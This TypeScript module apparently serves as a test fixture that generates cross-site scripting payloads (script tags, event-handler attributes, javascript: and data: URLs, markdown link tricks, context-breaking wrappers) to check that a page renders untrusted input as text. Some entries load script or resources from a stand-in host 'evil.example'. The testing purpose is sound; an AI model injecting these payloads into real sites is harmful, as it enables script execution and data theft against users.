/** The call by which an executed payload makes itself known to the page under test. */
const call = 'xss()'

const elements = [
  `<script>${call}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror=${call}>`,
  `<img src="x" onerror="${call}" />`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<body onload=${call}>`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<a href="javascript:${call}">here</a>`,
  `<form action="javascript:${call}"><button>go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css"</style>`,
  `<base href="https://evil.example/">`,
  `<template><img src=x onerror=${call}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
]

const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `javascript://example.com/%0A${call}`,
  `data:text/html,<script>${call}</script>`,
  `vbscript:${call}`,
  `https://example.com/"onmouseover="${call}`,
  `https://example.com/<script>${call}</script>`,
  `https://evil.example/'style='x`,
  `https://user:${call}@example.com/`,
]

const markdown = [
  `[here](javascript:${call})`,
  `![x](https://evil.example/pixel.gif)`,
  `![x](x" onerror="${call})`,
  `<https://evil.example/"onclick=${call}>`,
  '`<script>' + call + '</script>`',
  '```html\n<script>' + call + '</script>\n```',
  `# <img src=x onerror=${call}>`,
  `[here][x]\n\n[x]: javascript:${call}`,
  `[here](&#106;avascript:${call})`,
  `[here](javascript&colon;${call})`,
  `[here](data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKCk8L3NjcmlwdD4=)`,
  `![x](javascript:${call})`,
  `<javascript:${call}>`,
]

const around = [
  (payload: string) => payload,
  (payload: string) => `">${payload}`,
  (payload: string) => `'>${payload}`,
  (payload: string) => `</textarea></title></script>${payload}`,
  (payload: string) => `--><!-- ${payload}`,
  (payload: string) => payload.replaceAll('<', '&lt;'),
  (payload: string) => payload.replaceAll('<', '\\u003c'),
  (payload: string) => payload.toUpperCase().replaceAll(call.toUpperCase(), call),
]

/** Payloads that run a script or load something from elsewhere if they are treated as more than text. */
export const payloads = [
  ...new Set([...elements, ...addresses, ...markdown].flatMap((payload) => around.map((put) => put(payload)))),
]

/** More than a hundred of them, each element and address in two or three forms. */
export const somePayloads = payloads.filter((_, i) => i % 3 === 0)

/** Payloads that fit into a name of thirty characters. */
export const shortPayloads = payloads.filter((payload) => payload.length <= 30)

/** Texts joined to as few as possible of at most this length; a longer one is one of its own. */
export function packed(length: number, texts: readonly string[] = payloads): string[][] {
  const packs: string[][] = []
  for (const text of texts) {
    const last = packs.at(-1)
    if (last && [...last, text].join('\n\n').length <= length) last.push(text)
    else packs.push([text])
  }
  return packs
}

/** Texts as so many packs of about the same size. */
export function dealt(count: number, texts: readonly string[] = payloads): string[][] {
  return Array.from({ length: count }, (_, i) => texts.filter((_text, at) => at % count === i))
}
